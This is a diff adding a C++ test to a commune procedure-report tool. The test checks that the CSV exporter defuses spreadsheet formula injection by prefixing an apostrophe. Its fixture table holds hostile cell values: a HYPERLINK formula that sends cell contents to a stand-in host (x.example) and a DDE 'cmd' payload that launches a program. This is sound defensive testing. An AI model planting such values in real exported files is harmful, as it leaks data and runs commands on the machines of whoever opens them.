@@ -208,3 +208,23 @@ TEST_CASE("the report's JSON has the shape tools read, and the HTML page needs n
   const std::string csv = rateReportCsv(report);
   CHECK(csv.find("period,2025-Q1,,on_time,6,9,66.67,98.00,no") != std::string::npos);
 }
+
+TEST_CASE("CSV cells that a spreadsheet would run as formulas are written as text", "[indexer][report][hostile]") {
+  Fixture fixture;
+  // The commune's own procedure table names the procedures; a name can be anything typed there.
+  std::istringstream table(
+      "code\tname\tfield\tresult_document\tpaper_result\n"
+      "1.001193\t=HYPERLINK(\"http://x.example/?\"&A1,\"Đăng ký khai sinh\")\tHộ tịch\tGiấy khai sinh\tyes\n"
+      "1.004873\t+cmd|' /C calc'!A0\tHộ tịch\tGiấy xác nhận\tyes\n"
+      "1.000656\t-2+3\tHộ tịch\tTrích lục\tyes\n"
+      "1.004222\t@SUM(1)\tCư trú\tXác nhận\tno\n");
+  replaceProcedures(fixture.store, table);
+  const std::string csv = rateReportCsv(computeRateReport(fixture.store, *parsePeriod("2025-Q1")));
+  INFO(csv);
+  CHECK(csv.find(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Đăng ký khai sinh\"\")\",") != std::string::npos);
+  CHECK(csv.find(",\"'+cmd|' /C calc'!A0\",") != std::string::npos);
+  CHECK(csv.find(",\"'-2+3\",") != std::string::npos);
+  CHECK(csv.find(",\"'@SUM(1)\",") != std::string::npos);
+  for (const char* formula : {",=", ",+", ",-", ",@", ",\"=", ",\"+", ",\"-", ",\"@"})
+    CHECK(csv.find(formula) == std::string::npos);
+}
